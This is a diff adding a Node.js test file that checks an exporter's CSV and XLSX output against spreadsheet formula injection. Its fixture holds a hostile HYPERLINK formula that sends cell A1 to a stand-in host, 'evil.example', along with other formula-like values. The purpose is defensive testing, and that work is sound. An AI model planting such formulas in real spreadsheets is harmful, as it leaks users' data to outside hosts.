@@ -0,0 +1,76 @@
+const test = require("node:test");
+const assert = require("node:assert/strict");
+const zlib = require("node:zlib");
+const { createSandbox } = require("./helpers/sandbox");
+
+// The workbook's parts by name (local headers only; buildXlsx always deflates)
+function unzip(buf) {
+  const out = {};
+  for (let at = 0; buf.readUInt32LE(at) === 0x04034b50;) {
+    const size = buf.readUInt32LE(at + 18), nameLen = buf.readUInt16LE(at + 26), extra = buf.readUInt16LE(at + 28);
+    const name = buf.toString("utf8", at + 30, at + 30 + nameLen);
+    const start = at + 30 + nameLen + extra;
+    out[name] = zlib.inflateRawSync(buf.subarray(start, start + size)).toString("utf8");
+    at = start + size;
+  }
+  return out;
+}
+
+const LEAD = {
+  timestamp: "2026-10-18 10:15:00",
+  product: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  buyer: "@SUM(1+1)",
+  company: "-2+3, Pvt \"Ltd\"",
+  mobile: "+91-98765 43210",
+  email: "buyer@example.com",
+  address: "Ring Road, Surat",
+  time: "10:12 AM"
+};
+
+test("CSV cells that Excel would run as formulas are kept as text", (t) => {
+  const sb = createSandbox();
+  t.after(() => sb.cleanup());
+  const { createExporter } = sb.require("exporter.js");
+  const { toCSV } = createExporter({ reportsDir: sb.dir });
+
+  const csv = toCSV("leads", [LEAD]);
+  assert.ok(csv.startsWith("﻿"));
+  const [head, row] = csv.slice(1).split("\r\n");
+  assert.match(head, /^Serial,Captured \(IST\),Product,Buyer,Company,Mobile,/);
+  const cells = row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/);
+  assert.equal(cells[1], "2026-10-18 10:15:00");
+  assert.equal(cells[2], `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+  assert.equal(cells[3], "'@SUM(1+1)");
+  assert.equal(cells[4], `"'-2+3, Pvt ""Ltd"""`);
+  // Phones are not text: no ' prefix, and no leading + for Excel to evaluate
+  assert.equal(cells[5], "91 9876543210");
+  assert.equal(cells[cells.length - 1], "10:12 AM");
+
+  const masked = toCSV("leads", [{ ...LEAD, mobile: "+91-98XXXXXX12" }]).split("\r\n")[1];
+  assert.equal(masked.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)[5], "91-98XXXXXX12");
+
+  // Numbers are ours: a negative quantity stays a number
+  const products = toCSV("products", [{ timestamp: "2026-10-18 10:00:00", name: "Gear Box", quantity: "-5" }]).split("\r\n")[1];
+  assert.match(products, /^,2026-10-18 10:00:00,Gear Box,,-5,/);
+});
+
+test("XLSX writes phones and buyer text as inline strings, never formulas", (t) => {
+  const sb = createSandbox();
+  t.after(() => sb.cleanup());
+  const { createExporter } = sb.require("exporter.js");
+  const { buildXlsx } = createExporter({ reportsDir: sb.dir });
+
+  const columns = [
+    { header: "Product", type: "text", get: r => r.product },
+    { header: "Mobile", type: "phone", get: r => r.mobile },
+    { header: "Serial", type: "int", get: () => 7 }
+  ];
+  const parts = unzip(buildXlsx([{ name: "MC Leads", columns, rows: [LEAD] }]));
+  const sheet = parts["xl/worksheets/sheet1.xml"];
+  assert.ok(sheet);
+  assert.doesNotMatch(sheet, /<f>/);
+  assert.match(sheet, /<c r="A2" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK\(&quot;http:\/\/evil\.example\/\?x=&quot;&amp;A1,&quot;Click&quot;\)<\/t><\/is><\/c>/);
+  assert.match(sheet, /<c r="B2" t="inlineStr"><is><t xml:space="preserve">\+919876543210<\/t><\/is><\/c>/);
+  assert.match(sheet, /<c r="C2"><v>7<\/v><\/c>/);
+  assert.match(parts["xl/workbook.xml"], /<sheet name="MC Leads" sheetId="1"/);
+});